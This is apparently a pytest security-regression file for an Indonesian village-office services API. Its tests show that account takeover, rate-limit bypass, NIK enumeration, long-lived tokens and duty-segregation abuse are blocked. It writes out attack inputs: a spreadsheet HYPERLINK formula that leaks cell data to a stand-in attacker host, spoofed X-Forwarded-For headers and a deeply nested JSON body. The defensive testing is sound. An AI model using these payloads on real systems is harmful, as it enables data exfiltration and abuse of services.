"""Issue 14, "Insider and abuse hardening": each attack as it was sent, and the answer it gets now.

Items 7, 10 and 11 are tested beside their code (notifikasi, surat). Bad input (item 4) is the
table in tests/test_api_input.py; the whole API under schemathesis is tests/test_api_fuzz.py.
"""

import csv
import io
import json
import re
from datetime import timedelta

import pytest
import time_machine
from django.utils import timezone
from rest_framework.test import APIClient

from audit.enkripsi import indeks_hp
from audit.models import AuditEvent
from integritas.models import Pengaduan
from layanan.models import Permohonan
from notifikasi.models import Outbox
from tests.factories import MEDONO, Dunia, token, unggahan
from tests.pembantu_ttd import lihat_draf_api
from tests.test_api_lifecycle import ajukan_domisili, aksi, klien


@pytest.fixture
def dunia(db):
    return Dunia()


def kode_terakhir(no_hp):
    return Outbox.objects.filter(templat="kode_otp", penerima_indeks=indeks_hp(no_hp)).latest("dibuat").variabel["kode"]


# --- 1. a counter clerk takes over a registered resident's account ----------------------------------


def test_1_counter_clerk_cannot_repoint_a_registered_residents_number(dunia):
    warga = dunia.warga
    sebelum = (warga.no_hp, warga.nama, warga.alamat)
    r = klien(dunia.petugas_medono).post("/api/v1/permohonan/", {
        "layanan": "domisili", "kelurahan": MEDONO, "keperluan": "Melamar pekerjaan",
        "data": json.dumps({"lama_tinggal": 3}), "nik": warga.nik, "no_hp": "081299990000",
        "nama": "Penyerang", "alamat": "Jl. Lain 1",
        "berkas_pengantar_rt": unggahan(), "berkas_ktp": unggahan(),
    }, format="multipart")
    assert r.status_code == 400, r.content
    assert "no_hp" in r.json() and "lurah" in r.json()["no_hp"][0]
    warga.refresh_from_db()
    assert (warga.no_hp, warga.nama, warga.alamat) == sebelum
    assert not Permohonan.objects.exists()
    # The next sign-in code still goes to the resident's own number.
    APIClient().post("/api/v1/warga/otp/", {"nik": warga.nik, "no_hp": "081299990000"}, format="json")
    assert not Outbox.objects.filter(penerima_indeks=indeks_hp("+6281299990000")).exists()
    assert Outbox.objects.filter(penerima_indeks=indeks_hp(warga.no_hp), templat="kode_otp").count() == 1


def test_1_counter_submission_for_a_registered_resident_leaves_the_profile_alone(dunia):
    warga = dunia.warga
    r = klien(dunia.petugas_medono).post("/api/v1/permohonan/", {
        "layanan": "domisili", "kelurahan": MEDONO, "keperluan": "Melamar pekerjaan",
        "data": json.dumps({"lama_tinggal": 3}), "nik": warga.nik, "nama": "Nama Lain", "alamat": "Jl. Lain 1",
        "berkas_pengantar_rt": unggahan(), "berkas_ktp": unggahan(),
    }, format="multipart")
    assert r.status_code == 201, r.content
    warga.refresh_from_db()
    assert (warga.nama, warga.alamat, warga.no_hp) == ("Siti Aminah", "Jl. Medono 5", "+6281234567801")
    assert Permohonan.objects.get().identitas["nama"] == "Nama Lain"  # the request's own snapshot


def test_1_number_changes_only_with_a_code_from_the_old_number_and_is_audited(dunia):
    warga = dunia.warga
    c = klien(warga.user)
    r = c.post("/api/v1/warga/no-hp/", {"no_hp_baru": "081355554444"}, format="json")
    assert r.status_code == 200, r.content
    assert not Outbox.objects.filter(penerima_indeks=indeks_hp("+6281355554444")).exists()  # the code went to the OLD number
    kode = kode_terakhir(warga.no_hp)
    # A wrong code, or the right code for another new number, changes nothing.
    salah = "000000" if kode != "000000" else "111111"
    assert c.post("/api/v1/warga/no-hp/konfirmasi/", {"no_hp_baru": "081355554444", "kode": salah},
                  format="json").status_code == 400
    r = c.post("/api/v1/warga/no-hp/konfirmasi/", {"no_hp_baru": "081355550000", "kode": kode}, format="json")
    assert r.status_code == 400 and "kode" in r.json()
    warga.refresh_from_db()
    assert warga.no_hp == "+6281234567801"
    assert not AuditEvent.objects.filter(aksi="ganti_no_hp").exists()


def test_1_number_change_confirmed_from_the_old_number(dunia):
    warga = dunia.warga
    c = klien(warga.user)
    assert c.post("/api/v1/warga/no-hp/", {"no_hp_baru": "081355554444"}, format="json").status_code == 200
    kode = kode_terakhir(warga.no_hp)
    # Another resident cannot use it, nor can the code confirm a different new number.
    assert klien(dunia.warga_lain.user).post("/api/v1/warga/no-hp/konfirmasi/", {
        "no_hp_baru": "081355554444", "kode": kode}, format="json").status_code == 400
    r = c.post("/api/v1/warga/no-hp/konfirmasi/", {"no_hp_baru": "081355554444", "kode": kode}, format="json")
    assert r.status_code == 200, r.content
    warga.refresh_from_db()
    assert warga.no_hp == "+6281355554444"
    e = AuditEvent.objects.get(aksi="ganti_no_hp")
    assert e.data == {"lama": "+6281••••••801", "baru": "+6281••••••444", "cara": "kode_nomor_lama"}
    assert e.aktor == warga.user.get_username() or e.aktor_id == warga.user_id
    # An officer's token cannot start a change of anyone's number.
    assert klien(dunia.petugas_medono).post("/api/v1/warga/no-hp/", {"no_hp_baru": "081355550000"},
                                            format="json").status_code == 403


def test_1_lost_number_changes_at_the_counter_only_with_the_lurahs_approval(dunia):
    from kelurahan.models import Penugasan, Peran

    warga = dunia.warga
    isian = {"nik": warga.nik, "no_hp_baru": "081366665555", "alasan": "Ponsel hilang; KTP-el asli diperiksa."}
    r = klien(dunia.petugas_medono).post("/api/v1/warga/no-hp/loket/", isian, format="json")
    assert r.status_code == 201, r.content
    pk = r.json()["id"]
    warga.refresh_from_db()
    assert warga.no_hp == "+6281234567801"  # filed, not changed
    putus = f"/api/v1/warga/no-hp/loket/{pk}/putuskan/"
    assert klien(dunia.petugas_medono).post(putus, {"setuju": True}, format="json").status_code == 403
    assert klien(dunia.lurah_tirto).post(putus, {"setuju": True}, format="json").status_code == 404
    # A clerk who is also Plt. lurah still may not approve what they filed.
    Penugasan.objects.create(user=dunia.petugas_medono, peran=Peran.LURAH, kantor=dunia.medono)
    r = klien(dunia.petugas_medono).post(putus, {"setuju": True}, format="json")
    assert r.status_code == 403 and "pemisahan tugas" in r.json()["detail"]
    r = klien(dunia.lurah_medono).post(putus, {"setuju": True, "catatan": "Sesuai KTP-el"}, format="json")
    assert r.status_code == 200, r.content
    warga.refresh_from_db()
    assert warga.no_hp == "+6281366665555"
    assert klien(dunia.lurah_medono).post(putus, {"setuju": True}, format="json").status_code == 409
    e = AuditEvent.objects.get(aksi="ganti_no_hp")
    assert (e.rantai, e.data["lama"], e.data["baru"], e.data["cara"], e.data["diajukan_oleh"]) == (
        MEDONO, "+6281••••••801", "+6281••••••555", "loket_disetujui_lurah", "petugas.medono")
    assert AuditEvent.objects.filter(aksi="ganti_no_hp_diajukan").count() == 1
    # A resident cannot file one, and bad input is per field.
    assert klien(warga.user).post("/api/v1/warga/no-hp/loket/", isian, format="json").status_code == 403
    r = klien(dunia.petugas_medono).post("/api/v1/warga/no-hp/loket/", {"nik": "1", "no_hp_baru": "2"},
                                         format="json")
    assert r.status_code == 400 and {"nik", "no_hp_baru", "alasan"} <= set(r.json())


# --- 2. rate limits bypassed with X-Forwarded-For; codes flooding one number ------------------------


def test_2_a_new_x_forwarded_for_per_request_does_not_reset_the_limit(dunia, settings):
    nomor = ajukan_domisili(dunia).json()["nomor_registrasi"]
    c = APIClient()
    kode = [c.get(f"/api/v1/lacak/{nomor}/", HTTP_X_FORWARDED_FOR=f"10.0.{i // 250}.{i % 250}").status_code
            for i in range(70)]
    assert kode[:60] == [200] * 60
    assert set(kode[60:]) == {429}


def test_2_sign_in_codes_to_one_number_are_limited_whatever_nik_asks(dunia):
    c = APIClient()
    nik = ["3375015203950001", "3375015203950002", "3375015203950003", "3375015203950004"]
    jawab = [c.post("/api/v1/warga/otp/", {"nik": n, "no_hp": "081377778888"}, format="json",
                    REMOTE_ADDR=f"10.1.0.{i}").status_code for i, n in enumerate(nik)]
    assert jawab == [200, 429, 429, 429]
    assert Outbox.objects.filter(penerima_indeks=indeks_hp("+6281377778888")).count() == 1
    with time_machine.travel(timezone.now() + timedelta(minutes=2)):
        for i in range(2, 6):
            c.post("/api/v1/warga/otp/", {"nik": f"33750152039500{i + 10}", "no_hp": "081377778888"},
                   format="json", REMOTE_ADDR=f"10.2.0.{i}")
    assert Outbox.objects.filter(penerima_indeks=indeks_hp("+6281377778888")).count() <= 5


# --- 3. spreadsheet formula injection --------------------------------------------------------------


def test_3_a_formula_in_a_complaint_stays_text_in_the_exports(dunia):
    rumus = '=HYPERLINK("http://jahat.example/?x="&A1,"klik")'
    for isi in (rumus, "+" + rumus[1:], "-2+3 " + "x" * 20, "@SUM(1+1) " + "y" * 20):
        r = APIClient().post("/api/v1/pengaduan/", {"kategori": "pungli", "isi": isi, "kelurahan": MEDONO,
                                                    "kontak": "=1+1"}, format="multipart")
        assert r.status_code == 201, r.content
    assert Pengaduan.objects.count() == 4
    c = klien(dunia.inspektorat)
    teks = c.get("/api/v1/pengaduan/", {"ekspor": "csv"}).content.decode("utf-8-sig")
    sel = [s for baris in csv.reader(io.StringIO(teks)) for s in baris]
    assert not any(s.startswith(("=", "+", "-", "@", "\t", "\r")) for s in sel), sel
    assert "'" + rumus in sel and "'=1+1" in sel
    from openpyxl import load_workbook

    buku = load_workbook(io.BytesIO(c.get("/api/v1/pengaduan/", {"ekspor": "xlsx"}).content))
    nilai = [cell.value for baris in buku.active.iter_rows() for cell in baris]
    jenis = {cell.data_type for baris in buku.active.iter_rows() for cell in baris}
    assert "f" not in jenis  # no formula cell
    assert "'" + rumus in nilai


# --- 4. (the table in tests/test_api_input.py) ------------------------------------------------------


@pytest.mark.parametrize("jalur", ["/api/v1/warga/otp/", "/api/v1/warga/masuk/", "/api/v1/survei/",
                                   "/api/v1/pengaduan/", "/api/v1/auth/token/"])
@pytest.mark.parametrize("isi", ["[1, 2, 3]", '"teks"', "42", "null", "[" * 100_000 + "]" * 100_000])
def test_4_a_json_body_that_is_not_an_object_is_a_400_per_field(dunia, jalur, isi):
    r = APIClient().post(jalur, isi, content_type="application/json")
    assert r.status_code == 400, (jalur, r.status_code, r.content[:200])
    assert r["Content-Type"].startswith("application/json")
    assert isinstance(r.json()["non_field_errors"][0], str)


# --- 5. tokens that live forever ---------------------------------------------------------------------


def test_5_resident_token_expires_in_hours_and_sign_in_rotates_it(dunia, settings):
    warga = dunia.warga
    APIClient().post("/api/v1/warga/otp/", {"nik": warga.nik, "no_hp": "081200000000"}, format="json")
    r = APIClient().post("/api/v1/warga/masuk/", {"nik": warga.nik, "kode": kode_terakhir(warga.no_hp)},
                         format="json")
    pertama = r.json()["token"]
    c = APIClient(HTTP_AUTHORIZATION=f"Token {pertama}")
    assert c.get("/api/v1/permohonan/").status_code == 200
    with time_machine.travel(timezone.now() + timedelta(hours=settings.TOKEN_WARGA_JAM, minutes=1)):
        r = c.get("/api/v1/permohonan/")
        assert r.status_code == 401 and "kedaluwarsa" in r.json()["detail"]


def test_5_officer_token_rotates_expires_and_sign_out_revokes(dunia, settings):
    from django.contrib.auth.hashers import make_password

    dunia.petugas_medono.password = make_password("rahasia-petugas-123")
    dunia.petugas_medono.save()
    masuk = {"username": "petugas.medono", "password": "rahasia-petugas-123"}
    pertama = APIClient().post("/api/v1/auth/token/", masuk, format="json").json()["token"]
    kedua = APIClient().post("/api/v1/auth/token/", masuk, format="json").json()["token"]
    assert pertama != kedua
    assert APIClient(HTTP_AUTHORIZATION=f"Token {pertama}").get("/api/v1/permohonan/").status_code == 401
    c = APIClient(HTTP_AUTHORIZATION=f"Token {kedua}")
    assert c.get("/api/v1/permohonan/").status_code == 200
    with time_machine.travel(timezone.now() + timedelta(hours=settings.TOKEN_PETUGAS_JAM, minutes=1)):
        assert c.get("/api/v1/permohonan/").status_code == 401
    ketiga = APIClient().post("/api/v1/auth/token/", masuk, format="json").json()["token"]
    c = APIClient(HTTP_AUTHORIZATION=f"Token {ketiga}")
    assert c.post("/api/v1/auth/keluar/").status_code == 204
    assert c.get("/api/v1/permohonan/").status_code == 401


def test_5_admin_revokes_every_token_and_session_of_a_user(dunia, client):
    from django.contrib.auth import get_user_model

    admin = get_user_model().objects.create_superuser("admin", password="admin-rahasia-123")
    korban = dunia.petugas_medono
    kunci = token(korban)
    sesi = APIClient()
    sesi.force_login(korban)
    client.force_login(admin)
    r = client.post("/admin/auth/user/", {"action": "cabut_token_dan_sesi", "_selected_action": [korban.pk]})
    assert r.status_code == 302
    assert APIClient(HTTP_AUTHORIZATION=f"Token {kunci}").get("/api/v1/permohonan/").status_code == 401
    assert sesi.get("/api/v1/permohonan/").status_code in (401, 403)
    e = AuditEvent.objects.get(aksi="cabut_semua_token")
    assert e.data == {"token": 1, "sesi": 1}


def test_5_officer_web_session_idle_timeout_and_absolute_limit(dunia, client, settings):
    client.force_login(dunia.petugas_medono)
    awal = timezone.now()
    with time_machine.travel(awal, tick=False) as mesin:
        assert client.get("/petugas/").status_code == 200
        mesin.shift(timedelta(minutes=settings.SESI_DIAM_MENIT - 1))
        assert client.get("/petugas/").status_code == 200
        mesin.shift(timedelta(minutes=settings.SESI_DIAM_MENIT + 1))
        assert client.get("/petugas/").status_code == 302  # idle too long: signed out
    client.force_login(dunia.petugas_medono)
    with time_machine.travel(timezone.now(), tick=False) as mesin:
        assert client.get("/petugas/").status_code == 200
        for _ in range(int(settings.SESI_MAKS_JAM * 60 / (settings.SESI_DIAM_MENIT - 1)) + 1):
            mesin.shift(timedelta(minutes=settings.SESI_DIAM_MENIT - 1))
            if client.get("/petugas/").status_code == 302:
                break
        assert timezone.now() - awal >= timedelta(hours=settings.SESI_MAKS_JAM)  # ended by the absolute limit


# --- 6. NIK enumeration through /api/v1/warga/otp/ ---------------------------------------------------


def test_6_registered_and_unknown_niks_get_the_same_answer(dunia):
    terdaftar = APIClient().post("/api/v1/warga/otp/", {"nik": dunia.warga.nik, "no_hp": "081311112222"},
                                 format="json", REMOTE_ADDR="10.3.0.1")
    asing = APIClient().post("/api/v1/warga/otp/", {"nik": "3375015203950001", "no_hp": "081311113333"},
                             format="json", REMOTE_ADDR="10.3.0.2")
    assert terdaftar.status_code == asing.status_code == 200
    assert terdaftar.json() == asing.json()
    assert "801" not in terdaftar.content.decode()  # nothing of the number on record
    tanpa_hp = [APIClient().post("/api/v1/warga/otp/", {"nik": n}, format="json", REMOTE_ADDR="10.3.0.3")
                for n in (dunia.warga.nik, "3375015203950005")]
    assert [r.status_code for r in tanpa_hp] == [400, 400]
    assert tanpa_hp[0].json() == tanpa_hp[1].json()


# --- 8. Content-Security-Policy on every page ---------------------------------------------------------

INLINE_SCRIPT = re.compile(r"<script(?![^>]*\bsrc=)(?![^>]*type=\"application/json\")[^>]*>", re.I)
INLINE_GAYA = re.compile(r"<style[\s>]|\sstyle=|\son[a-z]+=", re.I)


def test_8_every_page_has_a_strict_csp_and_no_inline_code(dunia, client):
    from django.contrib.auth import get_user_model

    nomor = ajukan_domisili(dunia).json()["nomor_registrasi"]
    halaman = ["/", "/lacak/", f"/lacak/{nomor}/", "/masuk/", "/masuk/petugas/", "/pengaduan/", "/transparansi/",
               "/api/docs/", "/api/redoc/", "/admin/login/"]
    petugas = ["/petugas/", "/petugas/loket/", "/dasbor/kecamatan/"]
    admin = ["/admin/", "/admin/auth/user/"]

    def periksa(url):
        r = client.get(url)
        assert r.status_code == 200, (url, r.status_code)
        kebijakan = r["Content-Security-Policy"]
        assert "script-src 'self'" in kebijakan and "unsafe-inline" not in kebijakan, (url, kebijakan)
        assert "object-src 'none'" in kebijakan and "default-src 'self'" in kebijakan
        html = r.content.decode()
        assert not INLINE_SCRIPT.search(html), (url, INLINE_SCRIPT.search(html))
        if not url.startswith("/admin/"):  # Django's admin is Django's; its few style= are not ours
            assert not INLINE_GAYA.search(html), (url, INLINE_GAYA.search(html))

    for url in halaman:
        periksa(url)
    client.force_login(dunia.camat)
    for url in petugas[2:]:
        periksa(url)
    client.force_login(dunia.petugas_medono)
    for url in petugas[:2]:
        periksa(url)
    client.force_login(get_user_model().objects.create_superuser("admin", password="admin-rahasia-123"))
    for url in admin:
        periksa(url)


# --- 9. segregation of duties ---------------------------------------------------------------------------


def test_9_the_verifier_may_neither_approve_nor_reject_at_the_signing_stage(dunia):
    from kelurahan.models import Penugasan, Peran

    Penugasan.objects.create(user=dunia.petugas_medono, peran=Peran.LURAH, kantor=dunia.medono)
    pk = ajukan_domisili(dunia).json()["id"]
    assert aksi(dunia.petugas_medono, pk, "verifikasi").status_code == 200
    detail = klien(dunia.petugas_medono).get(f"/api/v1/permohonan/{pk}/").json()
    assert detail["aksi_tersedia"] == []
    r = aksi(dunia.petugas_medono, pk, "tolak", "Saya berubah pikiran")
    assert r.status_code == 403 and "pemisahan tugas" in r.json()["detail"]
    assert Permohonan.objects.get(pk=pk).status == "diverifikasi"
    assert aksi(dunia.lurah_medono, pk, "tolak", "Berkas palsu").status_code == 200


def test_9_the_kecamatan_verifier_may_not_reject_at_the_camats_stage(dunia):
    from kelurahan.models import Penugasan, Peran

    Penugasan.objects.create(user=dunia.petugas_kec, peran=Peran.CAMAT, kantor=dunia.kec_barat)
    r = klien(dunia.warga.user).post("/api/v1/permohonan/", {
        "layanan": "ahli-waris", "kelurahan": MEDONO, "keperluan": "Warisan", "nama": "Siti", "alamat": "Jl. A",
        "data": json.dumps({"nama_almarhum": "Budi", "tanggal_meninggal": "2026-01-02"}),
        "berkas_akta_kematian": unggahan()}, format="multipart")
    if r.status_code != 201:
        pytest.fail(r.content)
    pk = r.json()["id"]
    assert aksi(dunia.petugas_medono, pk, "verifikasi").status_code == 200
    assert aksi(dunia.lurah_medono, pk, "setujui").status_code == 200
    assert aksi(dunia.petugas_kec, pk, "verifikasi_kecamatan").status_code == 200
    assert aksi(dunia.petugas_kec, pk, "tolak", "x").status_code == 403
    assert aksi(dunia.petugas_kec, pk, "setujui_camat").status_code == 403
    lihat_draf_api(klien(dunia.camat), pk)
    assert aksi(dunia.camat, pk, "setujui_camat").status_code == 200


def test_9_segregation_of_duties_has_one_source():
    """Services and the action list both ask alur.dilarang_pemisahan_tugas; no other module reads
    the verifier fields to decide who may act."""
    from pathlib import Path

    from layanan.permohonan import alur

    akar = Path(__file__).resolve().parent.parent
    pembaca = [p.relative_to(akar).as_posix() for p in akar.glob("layanan/**/*.py")
               if "PEMISAHAN_TUGAS" in p.read_text() or "dilarang_pemisahan_tugas" in p.read_text()]
    assert sorted(pembaca) == ["layanan/permohonan/alur.py", "layanan/permohonan/selectors.py",
                               "layanan/permohonan/services.py"]
    assert {aksi for aksi, _ in alur.PEMISAHAN_TUGAS} == {"setujui", "setujui_camat", "tolak"}
